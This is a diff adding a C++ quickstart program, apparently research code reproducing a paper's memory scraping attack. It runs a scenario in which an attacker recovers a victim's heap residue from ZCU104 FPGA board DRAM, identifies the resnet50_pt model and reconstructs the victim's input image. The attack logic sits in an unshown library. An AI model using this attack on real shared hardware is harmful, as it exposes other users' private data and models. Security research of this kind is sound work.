@@ -1,0 +1,54 @@
+// Quickstart: the paper's end-to-end attack on one page of code.
+//
+// A victim runs resnet50_pt on a Xilinx ZCU104 running PetaLinux; after
+// the victim exits, an attacker in a different user space scrapes the
+// victim's heap residue out of the FPGA board DRAM, identifies the model
+// from strings, and reconstructs the input image. Writes the victim input
+// and the reconstruction to PPM files for visual comparison.
+#include <cstdio>
+
+#include "attack/scenario.h"
+#include "img/ppm.h"
+
+int main() {
+  using namespace msa;
+
+  attack::ScenarioConfig config;           // ZCU104 + vulnerable defaults
+  config.model_name = "resnet50_pt";
+  config.image_width = 128;
+  config.image_height = 128;
+
+  std::puts("== Memory Scraping Attack quickstart ==");
+  std::puts("board: ZCU104, OS: PetaLinux (no sanitization, world-readable");
+  std::puts("pagemaps, unrestricted debugger) -- the paper's target.\n");
+
+  const attack::ScenarioResult result = attack::run_scenario(config);
+
+  std::printf("%s\n", result.report.transcript.c_str());
+  std::printf("victim pid .............. %lld\n",
+              static_cast<long long>(result.report.victim_pid));
+  std::printf("residue scraped ......... %llu bytes (%llu devmem reads)\n",
+              static_cast<unsigned long long>(result.report.residue_bytes),
+              static_cast<unsigned long long>(result.report.devmem_reads));
+  std::printf("model identified ........ %s (%zu signature hits)\n",
+              result.report.identified_model.c_str(),
+              result.report.signature_hits);
+  if (result.report.deep_match) {
+    std::printf("deep (xmodel) recovery .. %s, %zu weight bytes at offset %zu\n",
+                result.report.deep_match->model_name.c_str(),
+                result.report.deep_match->param_bytes,
+                result.report.deep_match->container_offset);
+  }
+  std::printf("image reconstructed ..... %s\n",
+              result.report.image_recovered() ? "yes" : "no");
+  std::printf("pixel match ............. %.4f (PSNR %.1f dB)\n",
+              result.pixel_match, result.psnr);
+
+  img::write_ppm_file(result.victim_input, "quickstart_victim_input.ppm");
+  if (result.report.reconstructed_image) {
+    img::write_ppm_file(*result.report.reconstructed_image,
+                        "quickstart_reconstructed.ppm");
+    std::puts("\nwrote quickstart_victim_input.ppm / quickstart_reconstructed.ppm");
+  }
+  return result.full_success() ? 0 : 1;
+}
